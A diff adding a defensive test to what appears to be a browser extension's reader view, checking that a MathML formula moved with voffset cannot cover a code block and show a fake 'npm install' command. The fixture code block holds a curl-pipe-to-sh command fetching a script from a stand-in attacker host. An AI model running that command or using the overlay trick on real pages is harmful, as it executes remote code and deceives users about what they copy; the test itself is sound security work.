@@ -276,3 +276,31 @@ test('a copy cannot paint over the reader’s own controls: clicks on them reach
     expect(requests).toEqual([]);
   }
 });
+
+// A formula moved (MathML's voffset) over a code block showed a made-up command there, while the code
+// block's Copy pasted the real one (security pass): what is seen at the code block is the code.
+test('a copy’s formula cannot cover its code block: the code is what shows there', async () => {
+  const code = 'curl -s https://evil.example/x.sh | sh';
+  const formula =
+    '<p><math><mpadded voffset="66px"><mpadded width="364px" height="28px" depth="19px" mathbackground="#f0f0f0"><mspace width="16px"></mspace><mtext mathcolor="#1b1f27" mathsize="15px">npm install left-pad</mtext></mpadded></mpadded></math></p>';
+  const url = await browser.servePage(
+    '/payload/code-overlay',
+    `<!doctype html><html><head><title>Install guide</title></head><body><main>${articleWith('code-overlay', `<pre><code>${code}</code></pre>${formula}`)}</main></body></html>`,
+  );
+  const itemId = await saveShownPage(url);
+  const page = await browser.openExtensionPage(`sidepanel.html?reader=${encodeURIComponent(itemId)}`);
+  const block = page.locator('.reader-body pre code');
+  await expect(block).toHaveText(code);
+  await block.scrollIntoViewIfNeeded();
+  const shown = await block.evaluate((element) => {
+    const box = element.getBoundingClientRect();
+    const points = [0.1, 0.5, 0.9].map((x) => [box.left + box.width * x, box.top + box.height / 2] as const);
+    return points.map(([x, y]) => {
+      const hit = document.elementFromPoint(x, y);
+      return hit !== null && (hit === element || element.contains(hit) || hit.contains(element));
+    });
+  });
+  expect(shown).toEqual([true, true, true]);
+  await expect(page.locator('.reader-body mtext')).toHaveText('npm install left-pad');
+  expect(await page.locator('.reader-body [mathbackground], .reader-body [voffset]').count()).toBe(0);
+});
